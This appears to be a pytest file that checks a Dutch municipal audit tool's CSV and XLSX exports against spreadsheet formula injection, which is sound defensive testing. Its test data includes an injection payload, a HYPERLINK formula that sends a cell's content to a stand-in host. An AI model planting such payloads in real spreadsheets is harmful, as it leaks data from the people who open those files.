"""No CSV or XLSX file kic writes holds a formula that kic did not mean to write (issue 18, item 11).

One full cycle on a gemeente whose data is hostile: product names and medewerkers in the imported
files, users' display names, reviewers' answers, toelichtingen and evidence references, and a
verbeteractie's title and owner all start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return. Every file the cycle produces (review workbook, the same filled in, the web's review and
audit exports, the SISA-dossier's XLSX and CSV, the scheduler's list of late actions, the import's
list of errors, ``kic stats select``'s ids) is read back and searched:

- XLSX: a formula cell is allowed only where kic writes its own (``KIC_FORMULAS``); no hyperlink, no
  defined name, a data validation only with a quoted list or a number; a text cell that starts like a
  formula carries Excel's quote prefix, so that it stays text when someone edits it;
- CSV: a cell that starts like a formula is a number (``-12,50``), anything else is guarded.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner
from helpers import ensure_team
from openpyxl import load_workbook
from openpyxl.worksheet.formula import ArrayFormula, DataTableFormula
from sqlalchemy import Engine, select

from kic.cli import main
from kic.controls.catalogue import AnswerType
from kic.controls.loader import load_catalogue
from kic.csvexport import FORMULA_STARTS
from kic.db import make_engine, session_scope, upgrade
from kic.findings.agenda import NewAction, add_action
from kic.periods import parse_period
from kic.population import import_population
from kic.reports.publish import build_files
from kic.review.evidence import add_reference
from kic.review.models import Review
from kic.review.service import ReviewInput, create_reviews, item_controls, item_frame, save_review
from kic.review.workbook import export_workbooks, fill_answers
from kic.samples.draw import SampleSpec, draw_sample
from kic.scheduling.config import Schedule
from kic.scheduling.jobs import build_jobs
from kic.synth import generate
from kic.synth.reviewer import answers_for_sample
from kic.users import add_user
from kic.web import create_app

MARK = "AANVAL"  # in every hostile text, to see that it reached the file
SHORT = tuple(f"{start}{MARK}+1" for start in FORMULA_STARTS)  # fits a product code (20 characters)
LONG = tuple(f'{start}HYPERLINK("http://example.org/?d="&Posten!C2,"{MARK}")' for start in FORMULA_STARTS)
PASSWORD = "een-lang-genoeg-wachtwoord-2026"
# The formulas kic writes on purpose, per sheet: the per-item overview repeats the checklist's answers.
KIC_FORMULAS = {
    "Checklist per post": re.compile(r"""=IF\('Checklist'!\$J\$\d+="","",'Checklist'!\$J\$\d+\)"""),
}
NUMBER = re.compile(r"-\d+(,\d+)?")  # a negative number in a Dutch CSV: not a formula, a number
# Where the hostile text lands at the start of a cell, so that the guard must act; the SISA-dossier
# holds no free text (its "bewijs" names the review), the audit trail and the import's errors hold the
# hostile text inside a longer one.
GUARDED = {
    "beoordelingswerkboek.xlsx",
    "beoordelingswerkboek-ingevuld.xlsx",
    "beoordelingen.csv",
    "beoordelingen.xlsx",
    "te-laat.csv",
    "stats-select.csv",
}
WITHOUT_FREE_TEXT = {"sisa.xlsx", "sisa.csv"}


def _hostile(texts: tuple[str, ...]) -> Iterator[str]:
    while True:
        yield from texts


def _hostile_population(gemeente, folder: Path) -> tuple[Path, Path]:  # type: ignore[no-untyped-def]
    """The gemeente's files with product and medewerker hostile in every row, as Parquet (a tab and a
    carriage return inside a value need no quoting there)."""
    paths = []
    for source, name in ((gemeente.dossiers_path, "beschikkingen"), (gemeente.payments_path, "betalingen")):
        frame = pd.read_csv(source, sep=";", dtype=str, keep_default_na=False, encoding="utf-8-sig")
        texts = _hostile(SHORT)
        frame["product"] = [next(texts) for _ in range(len(frame))]
        frame["medewerker"] = [next(texts) for _ in range(len(frame))]
        path = folder / f"{name}.parquet"
        frame.to_parquet(path, index=False)
        paths.append(path)
    return paths[0], paths[1]


def _review(session, sample_id: int, catalogue) -> None:  # type: ignore[no-untyped-def]
    """ali keeps drafts (her items go out in the workbook); bea hands hers in with an error, a cause, a
    toelichting and an evidence reference. Every text answer and toelichting is hostile."""
    create_reviews(session, sample_id, ["ali", "bea"], actor="teamleider")
    reviews = session.scalars(select(Review).where(Review.sample_id == sample_id).order_by(Review.id)).all()
    first_of_bea = next(r for r in reviews if r.reviewer == "bea")
    answers = answers_for_sample(
        session, sample_id, {first_of_bea.item_key: ("NORM_ONJUIST", Decimal("25.00"))}, catalogue
    )
    texts = _hostile(LONG)
    for review in reviews:
        given = answers[review.id]
        for control in item_controls(catalogue, item_frame(session, review)):
            for question in control.checklist.questions:
                if question.type is AnswerType.TEKST:
                    given.setdefault(control.id, {})[question.id] = next(texts)
        if review.reviewer == "bea":
            add_reference(session, review.id, next(texts), actor="bea")
        save_review(
            session,
            review.id,
            ReviewInput(given, "systeem" if review is first_of_bea else None, next(texts)),
            actor=review.reviewer,
            expected_version=review.version,
            submit=review.reviewer == "bea",
            source="web",
            catalogue=catalogue,
        )


def _web_exports(engine: Engine, sample_id: int, instance: Path) -> dict[str, bytes]:
    app = create_app(
        {
            "DATABASE_URL": engine.url.render_as_string(hide_password=False),
            "SECRET_KEY": "test-geheim",
            "TESTING": True,
            "INSTANCE_PATH": str(instance),
        }
    )
    files = {}
    for user, paths in (
        (
            "accountant",
            {
                "beoordelingen.csv": "/beoordelingen/export.csv",
                "beoordelingen.xlsx": "/beoordelingen/export.xlsx",
            },
        ),
        ("beheerder", {"auditspoor.csv": "/beheer/auditspoor.csv"}),
    ):
        client = app.test_client()
        form = BeautifulSoup(client.get("/inloggen").get_data(as_text=True), "html.parser")
        token = form.find("input", attrs={"name": "csrf_token"})["value"]
        client.post("/inloggen", data={"username": user, "password": PASSWORD, "csrf_token": token})
        for name, path in paths.items():
            response = client.get(f"{path}?steekproef={sample_id}" if "beoordelingen" in path else path)
            assert response.status_code == 200, f"{path}: {response.status_code}"
            files[name] = response.data
    app.extensions["kic_engine"].dispose()
    return files


def _cli(*args: str) -> int:
    result = CliRunner().invoke(main, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result.exit_code


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every CSV and XLSX file of one full cycle, by a short name."""
    folder = tmp_path_factory.mktemp("aanval")
    out = folder / "uit"
    out.mkdir()
    dossiers, payments = _hostile_population(generate(folder / "gemeente", payments=600, seed=18), folder)
    engine = make_engine(f"sqlite:///{folder / 'kic.sqlite'}")
    upgrade(engine)
    catalogue = load_catalogue()
    with session_scope(engine) as session:
        ensure_team(session, ["ali", "bea"])
        for role in ("accountant", "beheerder", "teamleider"):
            add_user(
                session, username=role, display_name=LONG[0], role=role, password=PASSWORD, actor="beheer"
            )
        import_population(session, "beschikkingen", dossiers, actor="beheer")
        import_population(session, "betalingen", payments, actor="beheer")
        sample_id = draw_sample(
            session, SampleSpec("PW-LO", parse_period("2026-Q2"), n=8), seed="aanval", actor="teamleider"
        ).id
        _review(session, sample_id, catalogue)
        [workbook] = export_workbooks(session, sample_id, out / "werkboek", actor="teamleider", show_bsn=True)
        texts = _hostile(LONG)
        action = NewAction(next(texts), next(texts), date(2026, 6, 30), description=next(texts))
        add_action(session, action, actor="teamleider")
        sisa = build_files(session, "sisa", "2026", pdf=False)
    paths = {"beoordelingswerkboek.xlsx": shutil.copy(workbook, out / "beoordelingswerkboek.xlsx")}
    filled = Path(shutil.copy(workbook, out / "beoordelingswerkboek-ingevuld.xlsx"))
    fill_answers(
        filled,
        {},
        {
            rid: ("systeem", text)
            for rid, text in zip(_review_ids(engine, "ali"), _hostile(LONG), strict=False)
        },
    )
    paths["beoordelingswerkboek-ingevuld.xlsx"] = filled
    for name, content in (("sisa.xlsx", sisa["xlsx"]), ("sisa.csv", sisa["csv"])):
        paths[name] = out / name
        paths[name].write_bytes(content)
    schedule = Schedule.model_validate({"uitvoermap": str(out / "planning"), "taken": {"te_laat_lijst": {}}})
    [late] = build_jobs(schedule)
    late.run(engine, "2026-12-01")
    paths["te-laat.csv"] = out / "planning" / "te-laat-2026-12-01.csv"
    for name, content in _web_exports(engine, sample_id, folder / "instance").items():
        paths[name] = out / name
        paths[name].write_bytes(content)
    paths["importfouten.csv"] = _import_errors(engine, payments, out)
    paths["stats-select.csv"] = _selected_ids(out)
    engine.dispose()
    return {name: Path(path) for name, path in paths.items()}


def _review_ids(engine: Engine, reviewer: str) -> list[int]:
    with session_scope(engine) as session:
        return list(session.scalars(select(Review.id).where(Review.reviewer == reviewer).order_by(Review.id)))


def _import_errors(engine: Engine, payments: Path, out: Path) -> Path:
    """A payments file with hostile amounts and dates, refused: kic writes every bad line to a CSV."""
    frame = pd.read_parquet(payments).head(20)
    texts = _hostile(SHORT)
    frame["bedrag"] = [next(texts) for _ in range(len(frame))]
    frame["betaaldatum"] = [next(texts) for _ in range(len(frame))]
    bad = out / "betalingen-fout.parquet"
    frame.to_parquet(bad, index=False)
    target = out / "importfouten.csv"
    url = engine.url.render_as_string(hide_password=False)
    assert _cli("import", "betalingen", str(bad), "--fouten", str(target), "--database", url) != 0
    return target


def _selected_ids(out: Path) -> Path:
    """``kic stats select`` on a list of ids and amounts: it writes the chosen ids to a file."""
    population = out / "posten.csv"
    texts = _hostile(SHORT)
    rows = [f"{next(texts).strip()}{i};{100 + i},00" for i in range(30)]  # a tab, a CR: not in an id
    population.write_text("id;boekwaarde\n" + "\n".join(rows) + "\n", encoding="utf-8")
    target = out / "stats-select.csv"
    assert (
        _cli("stats", "select", str(population), "--n", "10", "--seed", "aanval", "--uitvoer", str(target))
        == 0
    )
    return target


# --- reading the files back ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Found:
    cells: int  # text cells read
    marked: int  # cells holding the hostile mark
    guarded: int  # cells where the guard had to act
    unintended: list[str]  # what should not be there


def _scan_xlsx(path: Path) -> Found:
    book = load_workbook(path)
    cells = marked = guarded = 0
    unintended = [f"definierte naam {name}" for name in book.defined_names if not name.startswith("_xlnm.")]
    for sheet in book.worksheets:
        own = KIC_FORMULAS.get(sheet.title)
        for row in sheet.iter_rows():
            for cell in row:
                place = f"{sheet.title}!{cell.coordinate}"
                if cell.hyperlink is not None:
                    unintended.append(f"{place}: hyperlink {cell.hyperlink.target}")
                if cell.data_type == "f" or isinstance(cell.value, ArrayFormula | DataTableFormula):
                    if not (own and isinstance(cell.value, str) and own.fullmatch(cell.value)):
                        unintended.append(f"{place}: formule {cell.value!r}")
                    continue
                if isinstance(cell.value, str):
                    cells += 1
                    marked += MARK in cell.value
                    if cell.value.startswith(FORMULA_STARTS):
                        guarded += 1
                        if not cell.quotePrefix:
                            unintended.append(f"{place}: tekst zonder aanhalingsteken {cell.value!r}")
        for rule in sheet.data_validations.dataValidation:
            for formula in (rule.formula1, rule.formula2):
                if formula is not None and not re.fullmatch(r'"[^"]*"|-?\d+(\.\d+)?', formula):
                    unintended.append(f"{sheet.title}: validatie met formule {formula!r}")
    return Found(cells, marked, guarded, unintended)


def _scan_csv(path: Path) -> Found:
    text = path.read_text(encoding="utf-8-sig")
    cells = marked = guarded = 0
    unintended = []
    for number, row in enumerate(csv.reader(io.StringIO(text, newline=""), delimiter=";"), start=1):
        for column, value in enumerate(row, start=1):
            cells += 1
            marked += MARK in value
            guarded += value.startswith("'") and value[1:].startswith(FORMULA_STARTS)
            if value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value):
                unintended.append(f"regel {number}, kolom {column}: {value!r}")
    return Found(cells, marked, guarded, unintended)


def scan(path: Path) -> Found:
    return _scan_xlsx(path) if path.suffix == ".xlsx" else _scan_csv(path)


# The list is fixed here, so that each file is its own test; the fixture must make every one.
NAMES = (
    "beoordelingswerkboek.xlsx",
    "beoordelingswerkboek-ingevuld.xlsx",
    "beoordelingen.csv",
    "beoordelingen.xlsx",
    "auditspoor.csv",
    "sisa.xlsx",
    "sisa.csv",
    "te-laat.csv",
    "importfouten.csv",
    "stats-select.csv",
)


def test_the_cycle_makes_every_file_in_the_list(files):
    assert set(files) == {n if isinstance(n, str) else n.values[0] for n in NAMES}
    assert all(path.is_file() and path.stat().st_size for path in files.values())


@pytest.mark.parametrize("name", NAMES)
def test_no_file_holds_a_formula_kic_did_not_mean_to_write(files, name):
    found = scan(files[name])
    assert found.cells and (found.marked or name in WITHOUT_FREE_TEXT), f"{name}: the hostile text is in it"
    if name in GUARDED:
        assert found.guarded, f"{name}: text that starts like a formula is in the file, guarded"
    assert found.unintended == []


def test_the_review_workbook_keeps_its_own_formulas(files):
    """The allow-list is not a blank cheque: the per-item sheet really has kic's formulas, and only
    those pass."""
    book = load_workbook(files["beoordelingswerkboek.xlsx"])
    formulas = [c.value for row in book["Checklist per post"].iter_rows() for c in row if c.data_type == "f"]
    assert formulas and all(KIC_FORMULAS["Checklist per post"].fullmatch(f) for f in formulas)
    assert not KIC_FORMULAS["Checklist per post"].fullmatch(LONG[0])


def test_the_scan_finds_a_formula_a_hyperlink_and_an_unguarded_text(tmp_path):
    """The scan itself fails on what it looks for (a test of the test)."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet["A1"] = LONG[0]  # openpyxl: a formula
    sheet["A2"] = "gewoon"
    sheet["A2"].hyperlink = "http://example.org/"
    sheet["A3"] = "+31 6"
    path = tmp_path / "x.xlsx"
    book.save(path)
    assert len(scan(path).unintended) == 3
    bad = tmp_path / "x.csv"
    bad.write_text("a;b\r\n=1+1;-12,50\r\n'=1+1;-x\r\n", encoding="utf-8")
    assert [u.split(": ")[1] for u in scan(bad).unintended] == ["'=1+1'", "'-x'"]
